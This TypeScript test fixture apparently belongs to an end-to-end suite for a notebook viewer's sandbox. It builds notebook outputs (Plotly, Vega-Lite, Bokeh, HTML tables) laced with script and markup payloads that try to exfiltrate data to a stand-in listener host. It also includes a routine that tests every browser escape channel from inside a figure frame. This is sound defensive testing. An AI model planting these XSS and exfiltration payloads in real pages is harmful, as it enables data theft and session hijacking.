// A notebook whose figures and outputs try to get out, for tests/e2e/hostile-figures.test.ts. `L` is
// the stand-in for another host (a listener on 127.0.0.1); each attempt uses its own path on it, so a
// failure says which one got through.

/** What a script in an HTML output would try: all of it with the app's own objects as targets. */
const script = (L: string, who: string) => `<script>
window.__pwned = 1; parent.__pwned = 1;
fetch("${L}/${who}/fetch");
new Image().src = "${L}/${who}/script-image.png";
try { document.cookie = "pwned=1"; parent.document.cookie = "pwned=1"; } catch (e) {}
try { localStorage.clear(); parent.localStorage.clear(); } catch (e) {}
try { parent.document.body.innerHTML = "pwned"; } catch (e) {}
alert("${who}");
try { top.location = "${L}/${who}/top"; } catch (e) {}
document.forms[0] && document.forms[0].submit();
</script>`;

/** Markup that loads from the other host without any script, and a form and links for the test to click. */
const markup = (L: string, who: string) => `
<style>@font-face { font-family: evil; src: url(${L}/${who}/font.woff); } body { font-family: evil; background: url(${L}/${who}/background.png); }</style>
<link rel="stylesheet" href="${L}/${who}/style.css"><link rel="prefetch" href="${L}/${who}/prefetch"><link rel="preload" as="image" href="${L}/${who}/preload.png">
<meta http-equiv="refresh" content="0; url=${L}/${who}/refresh">
<img src="${L}/${who}/image.png"><svg width="10" height="10"><image href="${L}/${who}/svg-image.png" width="10" height="10"/></svg>
<iframe src="${L}/${who}/iframe"></iframe><object data="${L}/${who}/object"></object><video poster="${L}/${who}/poster.png"></video>
<form action="${L}/${who}/form" method="post"><input name="q" value="secret"><input type="submit" value="send"></form>
<a href="${L}/${who}/link-top" target="_top">top link</a> <a href="${L}/${who}/link-self">self link</a> <a href="${L}/${who}/link-blank" target="_blank">new window</a>`;

const output = (data: Record<string, unknown>) => ({ output_type: 'display_data', metadata: {}, data });
const code = (source: string, ...outputs: unknown[]) => ({ cell_type: 'code', execution_count: 1, metadata: {}, source, outputs });

export function hostileNotebook(L: string) {
  const plotlyFigure = (who: string) => ({
    data: [{ type: 'bar', x: ['a', 'b', 'c'], y: [3, 1, 2], text: [`<img src="${L}/${who}/trace-text.png">`, '<b>b</b>', 'c'], hovertemplate: `<a href="${L}/${who}/hover">%{x}</a>` }],
    layout: {
      title: { text: `${who} <a href="${L}/${who}/title-link" target="_self">link</a> <span style="font-family: evil; background: url(${L}/${who}/span.png)">styled</span>` },
      images: [{ source: `${L}/${who}/layout-image.png`, xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 0.5, sizey: 0.5 }],
      font: { family: `evil, url(${L}/${who}/font.woff)` },
    },
  });
  const plotlyHtml = `<div id="f1"></div>${script(L, 'plotly-html')}${markup(L, 'plotly-html')}
<script type="text/javascript">window.PLOTLYENV = window.PLOTLYENV || {}; Plotly.newPlot("f1", ${JSON.stringify(plotlyFigure('plotly-html').data)}, ${JSON.stringify(plotlyFigure('plotly-html').layout)}, {"responsive": true})</script>`;
  const vegaLite = {
    $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
    title: 'Hostile Vega-Lite',
    data: { values: [{ a: 'x', b: 2, u: `${L}/vega/href`, img: `${L}/vega/image-mark.png` }, { a: 'y', b: 3, u: `${L}/vega/href2`, img: `${L}/vega/image-mark2.png` }] },
    layer: [
      { mark: 'bar', encoding: { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' }, href: { field: 'u' }, tooltip: { field: 'img' } } },
      { mark: { type: 'image', width: 20, height: 20 }, encoding: { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' }, url: { field: 'img' } } },
    ],
    config: { font: 'evil' },
    usermeta: { embedOptions: { actions: true, loader: { baseURL: `${L}/vega/base/` }, tooltip: true } },
  };
  const vegaLiteUrl = { $schema: 'https://vega.github.io/schema/vega-lite/v5.json', data: { url: `${L}/vega/data.csv` }, mark: 'point', encoding: { x: { field: 'a', type: 'quantitative' } } };
  const bokehHtml = `<div class="bk-root" id="b1">Harmless bokeh text</div>${script(L, 'bokeh-html')}${markup(L, 'bokeh-html')}
<script type="application/javascript">Bokeh.embed.embed_items_notebook({}, [{"roots": {"b1": "x"}}]);</script>`;
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } },
    cells: [
      { cell_type: 'markdown', metadata: {}, source: '# Hostile figures\n\nEvery output below tries to get out.' },
      code('fig.show()  # plotly, as JSON', output({ 'application/vnd.plotly.v1+json': plotlyFigure('plotly-json'), 'text/html': `${script(L, 'plotly-json-html')}` })),
      code('iplot(fig)  # plotly, offline HTML', output({ 'text/html': plotlyHtml, 'text/plain': '<Figure>' })),
      code('alt.Chart(...)  # Vega-Lite', output({ 'application/vnd.vegalite.v5+json': vegaLite, 'text/plain': '<Chart>' })),
      code('alt.Chart(url)  # Vega-Lite with remote data', output({ 'application/vnd.vegalite.v5+json': vegaLiteUrl, 'text/plain': '<Chart>' })),
      code('show(p)  # bokeh, as its JSON', output({ 'application/vnd.bokehjs_exec.v0+json': { id: 'b0' }, 'text/html': script(L, 'bokeh-json') })),
      code('show(p)  # bokeh, as HTML', output({ 'text/html': bokehHtml, 'text/plain': '<Bokeh>' })),
      code('df  # an HTML table', output({ 'text/html': `<table><tr><td>Harmless table</td></tr></table>${script(L, 'html')}${markup(L, 'html')}`, 'text/plain': 'df' })),
    ],
  };
}

/**
 * Run inside the plotly frame by the test, as if a flaw in plotly.js let a figure run script there:
 * every way out it tries, and whether the browser refused it ('blocked') or let the call return
 * ('done': then the listener must still have seen nothing).
 */
export async function ESCAPED_SCRIPT(L: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const attempt = async (name: string, f: () => unknown) => {
    try {
      await f();
      out[name] = 'done';
    } catch {
      out[name] = 'blocked';
    }
  };
  const within = <T,>(p: Promise<T>) => Promise.race([p, new Promise<T>((_, reject) => setTimeout(() => reject(new Error('timeout')), 3000))]);
  await attempt('fetch', () => fetch(`${L}/escaped/fetch`, { mode: 'no-cors' }));
  await attempt('xhr', () => within(new Promise((resolve, reject) => {
    const x = new XMLHttpRequest();
    x.open('GET', `${L}/escaped/xhr`);
    x.onload = resolve;
    x.onerror = reject;
    x.send();
  })));
  await attempt('beacon', () => {
    if (!navigator.sendBeacon(`${L}/escaped/beacon`, 'x')) throw new Error('refused');
  });
  await attempt('websocket', () => within(new Promise((resolve, reject) => {
    const ws = new WebSocket(L.replace('http:', 'ws:') + '/escaped/ws');
    ws.onopen = resolve;
    ws.onerror = reject;
  })));
  await attempt('image', () => within(new Promise((resolve, reject) => {
    const i = new Image();
    i.onload = resolve;
    i.onerror = reject;
    i.src = `${L}/escaped/image.png`;
  })));
  await attempt('font', () => within(new FontFace('evil', `url(${L}/escaped/font.woff)`).load()));
  await attempt('cookie', () => document.cookie);
  await attempt('localStorage', () => localStorage.setItem('pwned', '1'));
  await attempt('parentDocument', () => parent.document.body.innerHTML);
  await attempt('parentStorage', () => parent.localStorage.clear());
  await attempt('topLocation', () => {
    top!.location.href = `${L}/escaped/top`;
  });
  await attempt('open', () => {
    if (!window.open(`${L}/escaped/open`)) throw new Error('no window');
  });
  await attempt('alert', () => alert('escaped'));
  await attempt('form', () => {
    const form = document.createElement('form');
    form.action = `${L}/escaped/form`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  });
  return out;
}
